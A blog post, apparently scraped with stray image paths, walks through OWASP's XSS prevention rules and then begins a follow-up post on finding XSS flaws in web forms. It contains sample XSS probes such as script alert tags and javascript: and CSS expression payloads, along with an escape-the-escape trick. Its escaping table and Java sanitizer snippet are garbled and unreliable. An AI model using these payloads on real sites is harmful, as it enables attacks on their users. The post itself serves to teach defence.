Cross-site Scripting – Prevention

This is the final post in my short series on cross-site scripting. After explaining the fundamentals of XSS and having some fun with a few examples, I’d now like to discuss how to prevent these naughty little scripts from threatening web app users. Preventing XSS attacks is the responsibility of the web designer. However, there are a few options for keeping yourself (the user) safe from attack which I’ll discuss afterward.

As I’ve made quite clear in my earlier posts,cross-site scripting attacks occur when untrusted data gets inserted dynamically into the HTML body without being validated first. However, writing the encoders necessary to cover all possible types of input data requires a great deal of effort and can be incredibly difficult. Fortunately, OWASP has already taken the difficulty out of this with ESAPI – Enterprise Security Application Programming Interface. ESAPI is aweb app security library that provides security controls such as authentication, access control, input validation, output encoding and escaping, and a lot more. It’s an absolutely incredible tool with bindings for several different languages. If you want a secure web app, use ESAPI. End of story. Though if you’re a horribly deranged .NET developer, Microsoft offers the AntiXSS library. However, I can’t vouch for it since I’m a free and open source software advocate.

OWASP has a really great article called the XSS Prevention Cheat Sheet. The positive model they describe is excellent. In fact, I think it’s so great that I’m going to make it the subject of this post. OWASP has defined 7 rules for strengthening web apps. Let’s take a look at each of these rules.

Rule 0: Never Insert Untrusted Data Except in Allowed Locations

If you’re a network administrator, think of this as the “default deny” ruleset used in firewalls. That is, unless it’s within one of the slots described in Rules 1 – 5, don’t insert untrusted data anywhere else into the body of an HTML document. Nowhere! En ninguna parte! Hiçbir yerde! 아직은 없어요






I can’t think of any legitimate reason for inserting untrusted data into an HTML comment or directly inside a <script> tag. It’s completelyasinine. If your web app requires it, I urge you to seriously reconsider the design of your web app.

Rule 1: HTML Escape Before Inserting Untrusted Data into HTML Element Content

This should be a no-brainer. I hope that by now I’ve made it very clear that you must escape untrusted data before inserting it into any dynamic HTML content.



All other HTML elements as well...

Furthermore, you should also use HTML character entity references to escape the following characters:

When this goes in This comes out
& &
< <
> >
" "
' '/ /

The reason these need to be escaped is because they all introduce a new execution context for the HTML interpreter. Depending on the character, they can be used to either introduce a new subcontext or close the current one.

Rule 2: Attribute Escape Before Inserting Untrusted Data into HTML Common Attributes

This rule only applies to the so-called “common” attributes like name and width. It does not apply to the more advanced attributes like src, href, or class. Neither should it be used with event handlers such as onclick, onload, or onmouseover (event handlers fall under Rule 3).




All characters below ASCII value 256 that are not alphanumeric should be escaped. If you like,you could use its respective named character entity reference (e.g. " or &) but it’d be easier to just usethe numeric format (i.e. &#nnnn; or &#xhhhh;). Wikipedia has a decent list here (I’m totally in love with Wikipedia, by the way).

I should mention that it’s always a good idea to surround attribute values with single or double quotes. In fact, section 3.2.2 of the HTML 4.0 specification recommends it. Regardless of the effect on validators/checkers or issues of style, quoting attribute values does have some security implications. When attributes are properly quoted, they can only be escaped with the corresponding quote. However, it’s possible to break out of unquoted attributes with a number of different characters. Since the spec says that unquoted attributes can only contain alphanumeric characters, hyphens, periods andunderscores, an attacker can use any other character to break out of the context. For example, % * + , - / ; ^ | and the space character (ASCII value 0x20).

Rule 3: JavaScript Escape Before Inserting Untrusted Data into JavaScript Data Values

Like I said before, if your web app allows for dynamically generated JavaScript, ask yourself “Is there some other way I can implement the behavior I want?” You’d be putting your users at a tremendous risk. However, if it’s absolutely essential, then be sure to follow this rule.




The only place to put untrusted data where it’s mostly free from harm is inside a quoted data value. This is for the very same reason that you should used quoted attribute values: switching into a new execution context anywhere else is practically child’s play. Just about any JavaScript operator can be used: ; == != && || ?:.

Again, all characters below ASCII value 256 that are not alphanumeric should beescaped. Since we’re talking about JavaScript now and not HTML, characters are escaped using the \xHH syntax. It’s important that you use the ASCII hexadecimal value and not something like \&, \#, or \@. There’s one gotcha: using \" leaves you vulnerable to “escape-the-escape” attacks. All the attacker has to do is include \" which would get transformed to \\" and enables the quote. Pretty clever, right?

Rule 4: CSS Escape and Strictly Validate Before Inserting Untrusted Data into HTML Style Property Values

When inserting untrusted data into CSS <style> tags or stylesheets, it’s important to remember two things: first, it should be properly validated and second, it should only be put inside property values. Placing it anywhere else is just asking for trouble.

<style> selector { property: ESCAPE UNTRUSTED DATA BEFORE PUTTING IT HERE; } </style>

<style> selector { property: "ESCAPE UNTRUSTED DATA BEFORE PUTTING IT HERE"; } </style>

<span style="property: ESCAPE UNTRUSTED DATA BEFORE PUTTING IT HERE">text</style>

Since CSS allows you to use JavaScript to dynamically generate property values, there are a few other things you should be aware of. Make sure that you filter URLs so that they only begin with http: and not javascript:. Internet Explorer 5 introduced a new extension called CSS expressions which you must filter out as well. Even when escaped,there is no safe way to place untrusted data into these expressions.

{ background-url: “javascript:alert('XSS')”; }

{ text-size: “expression(alert('XSS'))”; }

The same rules from Rule 3 for character escaping applies here as well. That is, all characters below ASCII value 256 that are not alphanumeric should be escaped. You also should not use shortcuts like \” for the same reason as in Rule 3.

Rule 5: URL Escape Before Inserting Untrusted Data into HTML URL Parameter Values

Following this rule helps prevent the most common type of XSS attack: placing malicious code directly in GET request parameters.All characters below ASCII value 256 that are not alphanumeric should be escaped. URLs use percent-encoding with the%HH syntax where HH is the hexadecimal ASCII value of the character. Character entity references are useless here.

Rule 6: Use an HTML Policy Engine to Validate or Clean User-driven HTML in an Outbound Way

If you want to allow users to embed HTML in their content but only a restricted subset of tags, this is where using a library like ESAPI will come in handy. It allows you to build up an HTML sanitizing whitelist policy very easily without having to write it yourself.

Customizing your policy is very easy. For example, to convert headers into <div> tags, you would use what’s called an element policy:

import org.owasp.html.HtmlPolicyBuilder;

new HtmlPolicyBuilder.allowElement(
    new ElementPolicy() {
        public String apply(String elementName, List attributes) {
            attributes.add("header-" + elementName);
            return "div";
    "h1", "h2", "h3", "h4", "h5", "h6").build(outputChannel);

For more information, see ESAPI’s javadoc for the Sanitizers and HtmlPolicyBuilder classes.

Bonus Rule: Use the HttpOnly Cookie Flag

The HttpOnly flag is an optional flag that can be included in the Set-Cookie field in the header of an HTTP request. It instructs the browser to use cookies only through the HTTP protocol. When set, a cookie will not be accessible though non-HTTP methods like JavaScript (e.g. document.cookie). As you can imagine, this makes it much more difficult for cookies to be stolen.

If you’re using Apache Tomcat as aservlet container, the HttpOnly flag can be set for all web apps in the conf/context.xml file:

<Context useHttpOnly=”true”>

In .NET 2.0, it can be set in the web.config file:

<httpCookies httpOnlyCookies=”true” … />

Ifyou’re using PHP (excuse me while I throw up really quick), the flag can be set in the php.ini file using the parameter:

session.cookie_httponly = True

Most modern browsers support HttpOnly so you do not have to worry about issues of platform compatibility.

It’s important to note that these rules only help prevent reflected and stored XSS attacks. Preventing DOM-based attacks is a whole different story. Since I did not talk about DOM-based attacks in this series, I won’t be covering it here. If you’re interested, good ol’ OWASP has a separate article called the DOM-based XSS Prevention Cheat Sheet. Gotta love OWASP. ;)

While it’s impossible to completely eliminate the threat of XSS attacks, following these rules can really strengthen the security model of your web app. Input validation isn’t the key to preventing just XSS attacks but also other forms of code injection like SQL, LDAP, and SSI injection. If you are not cautious, user input forms can easily become a gateway for cyber criminals to compromise both your server and the innocent people who visit your website.

Even if you’re not a web developer, you can still protect yourself from XSS attacks as a user. The most obvious way is simply to disable JavaScript but not only is this less than 100% effective, it just downright stupid. In our modern world of Web 2.0, disabling JavaScript would severely cripple the functionality of nearly every site you visit.

The most effective way to protect yourself would be to use a wonderful little piece of software called NoScript. NoScript is an award-winning Firefox extension that permits executable web content (e.g. JavaScript, Java, Flash, Silverlight, etc.) to run only if the site has been previously deemed trustworthy by you. It implements numerous countermeasures for specific web exploits. Not only can it recognize potential XSS attacks, it also has a firewall-like component called the Application BoundariesEnforcer (ABE), prevents clickjacking with the ClearClick component, and features a few HTTPS enhancements. It even recognized my own attempts to use XSS on mymachines which is fun to watch. I’ve been using NoScript for years and I can not recommend it enough. Best of all, it’s free and open source!

There’s also the (unoriginal) NotScripts for you Chrome and Opera users. However, it’s very simplistic and nowhere near as featureful as NoScript. Besides, you should be using Firefox anyway. There’s no reason not to. :P

I hope you’ve enjoyed fooling around with XSS as much as I have. It’s quite distinct from most other web app exploits (except for XSRF which is closely related). Quite frankly though, I’ve had about all I can handle for now with web technologies like JavaScript and HTML. I can tolerate it once in a while but my heart truly lies in lower level hacking like systems programming. At the moment, I’m reading Kevin Mitnick’s “The Art of Deception” so perhaps a post or two on social engineering is in order. We’ll see.

Cross-site Scripting – Examples

Last week I gave a general overview of cross-site scripting (XSS) and went over the basic attack theory. If you’re anything like me,  then you are probably eager to see XSS in action. Luckilyfor you, I’ve had a lot of fun this past week with XSS on my home network so I have quite a bit to write about.

Note: If you haven’t already done so, please read my previous post as I will be continuing where I last left off.

Searching for XSS flaws in web apps is a form of black box testing. That is, you typically won’t have any knowledge of the internal system and will need to use a variety of techniques to further understand its implementation. Sure there are some who might disagree with this and argue that it is instead a form of grey box testing. It doesn’t really matter. The truth is, the amount of knowledge you have about a particular web app will vary from site to site. It mostly depends on the amount of access you have to the source code. Semantic matters aside, the point is that you are going to have to perform some amount of information gathering first.

Generally speaking, using XSS to compromise a web app will involve three steps:

  1. Discover any input forms and determine how the GET/POST request variables relate to each input field.
  2. Further examine the code for each input field to detect possible vulnerabilities. This is typically accomplished by entering a harmless JavaScript statement like <script>alert('foobar')</script>.
  3. Analyze the server’s response. If the message box pops up,you’ve got decent foothold. If not, it may require you to further experiment with different encodings and filtering techniques.

